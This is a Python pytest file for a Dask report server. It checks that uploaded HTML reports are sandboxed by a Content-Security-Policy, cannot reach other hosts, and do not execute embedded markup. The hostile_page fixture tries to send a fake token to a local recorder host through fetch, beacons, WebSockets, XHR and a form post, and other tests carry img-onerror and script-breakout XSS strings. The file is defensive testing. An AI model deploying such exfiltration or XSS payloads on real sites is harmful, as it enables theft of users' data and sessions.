"""Uploaded report pages reach nothing outside themselves (issue 9, item 10): a report
whose HTML tries every way to contact another host, opened in Chromium from a running
server, sends that host nothing, while the page's own inline script still runs; a real
performance report (BokehJS inlined) still renders under the same policy."""

from __future__ import annotations

import http.client
import http.server
import re
import threading
import urllib.parse

import dask
import dask.array as da
import pytest
from distributed import Client, LocalCluster

from dask_analytics_lab.api import close_readers
from dask_analytics_lab.reports import performance_report

from ..server_helpers import ServerThread, free_port, on_report_origin, report_server, request
from ..waiting import wait_for


class Recorder:
    """A plain HTTP server on another 127.0.0.1 port that notes every request it gets
    (and answers them, CORS allowed, so that nothing but the page's policy stops them)."""

    def __init__(self, page: str = ""):
        self.paths: list[str] = []
        recorder = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _answer(self) -> None:
                recorder.paths.append(self.path)
                body = page.encode() if self.path == "/control.html" else b"ok"
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header(
                    "Content-Type", "text/html" if self.path.endswith(".html") else "text/plain"
                )
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _answer

            def log_message(self, *args) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def hostile_page(other: str) -> str:
    """Every way a page could send something to `other`, and one harmless inline script."""
    return f"""<!doctype html><html><head>
<link rel="stylesheet" href="{other}/stylesheet">
<link rel="prefetch" href="{other}/prefetch">
<script src="{other}/script.js"></script>
<style>body {{ background: url("{other}/css-background"); }}</style>
</head><body>
<h1 id="said">the inline script did not run</h1>
<img src="{other}/img">
<iframe src="{other}/frame"></iframe>
<object data="{other}/object"></object>
<video src="{other}/video"></video>
<form id="phish" action="{other}/form" method="post"><input name="token" value="dal_stolen"></form>
<script>
  document.getElementById("said").textContent = "the inline script ran";
  const sent = [
    fetch("{other}/fetch?token=dal_stolen").catch(() => {{}}),
    new Promise((done) => {{ const i = new Image(); i.onload = i.onerror = done; i.src = "{other}/image-from-js"; }}),
  ];
  try {{ navigator.sendBeacon("{other}/beacon", "dal_stolen"); }} catch (e) {{}}
  try {{ new WebSocket("{other.replace("http", "ws")}/websocket"); }} catch (e) {{}}
  try {{ new EventSource("{other}/event-source"); }} catch (e) {{}}
  try {{ const x = new XMLHttpRequest(); x.open("GET", "{other}/xhr"); x.send(); }} catch (e) {{}}
  try {{ window.open("{other}/popup"); }} catch (e) {{}}
  try {{ new Worker("{other}/worker.js"); }} catch (e) {{}}
  // The form goes last, once the page and its other tries are answered or refused: its
  // navigation would cancel a request still on its way (on a busy machine, 300 ms is not
  // enough for them to leave).
  addEventListener("load", () => Promise.allSettled(sent).then(() => setTimeout(() => {{
    try {{ document.getElementById("phish").submit(); }} catch (e) {{}}
  }}, 300)));
</script>
</body></html>"""


def test_a_report_page_contacts_no_other_host(sqlite_url, browser):
    other = Recorder()
    # The same page, served with no policy, contacting a host of its own.
    reached = Recorder()
    control = Recorder(page=hostile_page(reached.url))
    try:
        with report_server(sqlite_url) as server:
            token = server.token("A")
            status, body, _ = request(
                server.url + "/api/reports",
                method="POST",
                token=token,
                body={
                    "html": hostile_page(other.url),
                    "twin": {"summary": {}},
                    "filename": "r.html",
                    "private": False,
                },
            )
            assert status == 201
            url = on_report_origin(server, body["report"]["url"])
            status, _, headers = request(url)
            csp = headers["Content-Security-Policy"]
            assert status == 200 and csp.startswith("sandbox") and "connect-src 'none'" in csp
            assert "form-action 'none'" in csp and "default-src 'none'" in csp

            page = browser.new_page()
            violations: list[str] = []
            page.on(
                "console",
                lambda m: (
                    violations.append(m.text) if "Content Security Policy" in m.text else None
                ),
            )
            # The form, sent after the rest, is the page's last try: Chromium says it refused it.
            with page.expect_console_message(
                lambda m: f"{other.url}/form" in m.text, timeout=10_000
            ):
                page.goto(url)
            page.wait_for_function(
                "document.getElementById('said').textContent.includes('ran')", timeout=10_000
            )
            assert page.url == url  # not navigated away by the form
            assert page.inner_text("#said") == "the inline script ran"
            assert other.paths == [], other.paths
            assert violations  # Chromium says what it refused

            # The control: with no policy the same page does reach its host, form included.
            page = browser.new_page()
            page.goto(control.url + "/control.html")
            expected = {"/img", "/fetch?token=dal_stolen", "/image-from-js", "/form"}
            wait_for(lambda: expected <= set(reached.paths), timeout=60, what=f"{expected} reached")
            # ... and by then any request of the report page would have arrived too.
            assert other.paths == [], other.paths
    finally:
        for recorder in (other, reached, control):
            recorder.close()


@pytest.fixture
def client():
    with (
        LocalCluster(
            n_workers=1, threads_per_worker=1, processes=False, dashboard_address=":0"
        ) as cluster,
        Client(cluster) as c,
    ):
        yield c
    close_readers()


def test_a_performance_report_still_renders_under_the_policy(client, sqlite_url, tmp_path, browser):
    with (
        report_server(sqlite_url) as server,
        dask.config.set({"analytics.store": sqlite_url, "analytics.reports.base-url": server.url}),
    ):
        with performance_report(filename=str(tmp_path / "r.html")) as report:
            da.ones((100, 100), chunks=50).sum().compute()
        assert report.url is not None
        assert (
            'src="https://cdn.bokeh.org' not in (tmp_path / "r.html").read_text()
        )  # BokehJS is inlined
        page = browser.new_page()
        errors: list[str] = []
        page.on("pageerror", lambda e: errors.append(str(e)))
        page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
        page.goto(on_report_origin(server, report.url))
        page.wait_for_function(
            "window.Bokeh && Bokeh.documents.length > 0 && Bokeh.documents[0].roots().length > 0",
            timeout=20_000,
        )
        assert "Dask Performance Report" in page.evaluate(
            "Array.from(document.querySelectorAll('*')).map(e => e.shadowRoot ? e.shadowRoot.textContent : '')"
            ".join(' ') + document.body.textContent"
        )
        # distributed's template links a favicon on docs.dask.org: blocked, as it should be.
        assert [e for e in errors if "favicon.ico" not in e] == [], errors


# --- issue 20, item 5: recorded code runs in no report, uploaded HTML stays off the origin --
def _hostile_code_report(filename: str):
    # <img src=x onerror="window.__pwned = 'img'"> </script><script>window.__pwned = 'script'</script>
    with performance_report(filename=filename) as report:
        da.ones((100, 100), chunks=50).sum().compute()
    return report


def _shown_text(page) -> str:
    """The text of the page, inside Bokeh's (nested) shadow roots too."""
    return page.evaluate("""() => {
      const out = [document.body.textContent];
      const walk = (root) => { for (const e of root.querySelectorAll('*')) {
        if (e.shadowRoot) { out.push(e.shadowRoot.textContent); walk(e.shadowRoot); } } };
      walk(document);
      return out.join(' ');
    }""")


def test_recorded_code_runs_in_no_stored_or_served_report(client, sqlite_url, tmp_path, browser):
    """F13: the calling code holds markup.  Dask's own report (the file written, and as
    served from the report origin) and the server's page of the report show it as text;
    none runs it."""
    with (
        report_server(sqlite_url) as server,
        dask.config.set({"analytics.store": sqlite_url, "analytics.reports.base-url": server.url}),
    ):
        report = _hostile_code_report(str(tmp_path / "r.html"))
        assert report.url is not None
        assert "onerror=" in report.report["summary"]["code"]  # the twin keeps the code as it was
        for where, url in [
            ("file", (tmp_path / "r.html").as_uri()),
            ("report origin", on_report_origin(server, report.url)),
        ]:
            page = browser.new_page()
            page.goto(url)
            page.wait_for_function("window.Bokeh && Bokeh.documents.length > 0", timeout=20_000)
            # Rendered: the code's markup is on screen as the text it is ...
            wait_for(
                lambda: "<img src=x onerror=" in _shown_text(page),
                timeout=20,
                what=f"the code's markup shown as text ({where})",
            )
            assert "</script><script>" in _shown_text(page), where
            # ... and ran nowhere.
            assert page.evaluate("window.__pwned === undefined"), (
                where,
                page.evaluate("window.__pwned"),
            )
        # The server's own page of the report (from its twin).
        page = browser.new_page()
        errors: list[str] = []
        page.on("pageerror", lambda e: errors.append(str(e)))
        page.goto(report.url)
        # This cluster is not recorded: the page holds the block's code alone, as text.
        page.wait_for_selector(".dal-report-norecord .dal-code", timeout=20_000)
        page.wait_for_function("document.body.textContent.includes('onerror=')", timeout=20_000)
        assert page.evaluate("window.__pwned === undefined")
        assert errors == [], errors


def test_uploaded_report_html_is_never_served_on_the_servers_origin(store_url):
    """N3: the HTML an uploader sent runs only on the report origin (report_url), never
    on the server's own; without a report origin it is served nowhere.  A private one
    opens there only through the signed link its page hands its account's readers."""
    marker = "uploaded-html-marker"
    upload = {
        "html": f"<html><body><p id=m>{marker}</p><script>window.__ran = 1</script></body></html>",
        "twin": {
            "summary": {"n_tasks": 1, "code": '<img src=x onerror="window.__pwned = 1">'},
            "task_groups": [],
            "task_stream": [],
            "profile": {},
        },
        "filename": "r.html",
    }
    for settings in ({}, {"report_url": True}):
        port = free_port()
        if settings:
            settings = {"report_url": f"http://localhost:{port}"}
        with ServerThread({"store_url": store_url, **settings}, port=port) as server:
            token = server.token("A")
            links = {}
            for private in (False, True):
                status, body, _ = request(
                    server.url + "/api/reports",
                    method="POST",
                    token=token,
                    body={**upload, "private": private},
                )
                assert status == 201, body
                links[private] = body["report"]["url"]
            for private, url in links.items():
                status, page, headers = request(url, token=token)
                assert status == 200 and marker not in page and "window.__ran" not in page
                assert "dal-state" in page  # the page rendered from the twin
                csp = headers["Content-Security-Policy"]
                assert (
                    csp.startswith("sandbox")
                    and "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0]
                )
                # The code is in the page only as JSON text, "<" escaped.
                assert "<img src=x" not in page
                other = on_report_origin(server, url)
                if not settings:
                    assert request(other)[0] == 404 or marker not in request(other)[1]
                    continue
                if private:
                    assert request(other)[0] == 404 and request(other, token=token)[0] == 404
                    # The page (the same for every reader) links to the server's own
                    # origin, which hands the account's readers a signed link, no one else.
                    (uploaded,) = re.findall(r'href="([^"]+/uploaded)"', page)
                    assert uploaded == urllib.parse.urlsplit(url).path + "/uploaded"
                    assert redirect_of(server.url + uploaded)[0] == 401
                    assert redirect_of(server.url + uploaded, server.token("B"))[0] == 404
                    status, other = redirect_of(server.url + uploaded, token)
                    assert status == 302 and other.startswith(f"http://localhost:{server.port}/")
                    assert "access=" in other
                status, served, headers = request(other)
                assert status == 200 and marker in served
                assert headers["Content-Security-Policy"].startswith("sandbox")
                # Nothing else of the server answers on the report origin.
                for path in (
                    "/api/whoami",
                    "/api/reports",
                    "/login",
                    "/",
                    url.split(server.url)[1] + ".json",
                ):
                    assert (
                        request(f"http://localhost:{server.port}{path}", token=token)[0] == 404
                    ), path


def redirect_of(url: str, token: str | None = None) -> tuple[int, str | None]:
    """(status, Location) of a GET, the redirect not followed."""
    parts = urllib.parse.urlsplit(url)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
    try:
        conn.request(
            "GET", parts.path, headers={"Authorization": f"token {token}"} if token else {}
        )
        r = conn.getresponse()
        r.read()
        return r.status, r.getheader("Location")
    finally:
        conn.close()
